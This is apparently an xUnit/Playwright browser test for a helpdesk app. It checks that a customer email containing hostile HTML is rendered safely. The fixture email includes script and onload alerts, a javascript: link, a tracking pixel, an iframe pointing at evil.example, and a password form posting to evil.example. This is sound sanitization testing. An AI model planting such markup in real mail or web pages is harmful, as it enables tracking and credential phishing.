using Baton.Browser.Tests.Infrastructure;
using Baton.Web.Data;
using Baton.Web.Infrastructure.Files;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using Xunit.Abstractions;
using static Baton.Web.Tests.Infrastructure.BatonAppFactory;
using static Microsoft.Playwright.Assertions;

namespace Baton.Browser.Tests.Mail;

/// <summary>An agent opens the mail a ticket came from in a real browser: it reads as sent, and nothing in it runs or calls out.</summary>
public sealed class ReadingAFullMailTests(BatonBrowserFixture fixture, ITestOutputHelper output) : BrowserTest(fixture, output)
{
    private const string Png1x1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    [BrowserFact]
    public Task AHostileMail_ShowsItsWordsAndOwnImage_RunsNoScript_AndFetchesNothingFromOutside() => JourneyAsync(async page =>
    {
        var client = await App.CreateClientAsync();
        var agent = await App.CreateAgentAsync();
        using var api = await ApiAsAsync(agent);
        var ticket = await OpenIncidentAsync(api, client, "Quarterly numbers do not add up " + Guid.NewGuid().ToString("N")[..6]);
        var mailId = await StoreMailAsync(ticket.Id, $"""
            From: Mia Chen <mia@client.example>
            To: desk@msp.example
            Subject: The quarterly numbers
            Message-ID: <{Guid.NewGuid():N}@client.example>
            MIME-Version: 1.0
            Content-Type: multipart/related; boundary="rel"

            --rel
            Content-Type: text/html; charset=utf-8

            <html><body onload="alert('onload')"><p>The quarterly numbers are off by one row.</p>
            <script>alert('script')</script><img src="cid:chart@client" alt="the chart" width="40" height="20">
            <img src="http://tracker.example/open.gif?who=mia" alt="tracker"><a href="javascript:alert('link')">details</a>
            <iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name="password"></form></body></html>
            --rel
            Content-Type: image/png
            Content-ID: <chart@client>
            Content-Transfer-Encoding: base64

            {Png1x1}
            --rel--
            """);
        var home = App.ClientBaseAddress!.GetLeftPart(UriPartial.Authority);
        var outside = new List<string>();
        page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(home, StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal) && request.Url != "about:srcdoc")
            {
                outside.Add(request.Url);
            }
        };
        var dialogs = new List<string>();
        page.Dialog += async (_, dialog) =>
        {
            dialogs.Add(dialog.Message);
            await dialog.DismissAsync();
        };

        await SignInAsync(page, agent.Email);
        await page.GotoAsync($"/Tickets/{ticket.Number}");
        await page.GetByRole(AriaRole.Link, new() { Name = "Full mail" }).ClickAsync();

        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "The quarterly numbers", Level = 1 })).ToBeVisibleAsync();
        var frame = page.FrameLocator("iframe.mail-frame");
        await Expect(frame.GetByText("The quarterly numbers are off by one row.")).ToBeVisibleAsync();
        var chart = frame.GetByAltText("the chart");
        await Expect(chart).ToBeVisibleAsync();
        Assert.Equal(1, await chart.EvaluateAsync<int>("img => img.naturalWidth")); // the mail's own 1×1 PNG, decoded
        await Expect(frame.GetByText("[image: tracker]")).ToBeVisibleAsync();
        await frame.GetByText("details").ClickAsync();
        await page.WaitForTimeoutAsync(300); // anything the mail could still start would have started
        Assert.Empty(dialogs);
        Assert.Empty(outside);
        await Expect(frame.Locator("script, iframe, form, input")).ToHaveCountAsync(0);
        await Expect(page.GetByText("Text, with the quoted history")).ToBeVisibleAsync();
        Assert.Equal(mailId, long.Parse(page.Url.Split('/')[^1], System.Globalization.CultureInfo.InvariantCulture));
    });

    /// <summary>The mail as the intake leaves it: the raw message in the store, a row filed on the ticket that it opened.</summary>
    private Task<long> StoreMailAsync(long ticketId, string raw) => App.WithDbAsync(async db =>
    {
        using var stream = new MemoryStream(System.Text.Encoding.UTF8.GetBytes(raw.ReplaceLineEndings("\r\n")));
        var key = await App.Services.GetRequiredService<IAttachmentStore>().SaveAsync(stream, TimeProvider.System.GetUtcNow(), default);
        var mail = new InboundMail
        {
            DedupKey = $"test:{Guid.NewGuid():N}", Source = "test", StorageKey = key, FromAddress = "mia@client.example", FromName = "Mia Chen",
            Subject = "The quarterly numbers", State = InboundMailState.Filed, Outcome = InboundMailOutcome.NewTicket, TicketId = ticketId,
            ReceivedAt = TimeProvider.System.GetUtcNow(),
        };
        db.InboundMails.Add(mail);
        await db.SaveChangesAsync();
        return mail.Id;
    });
}
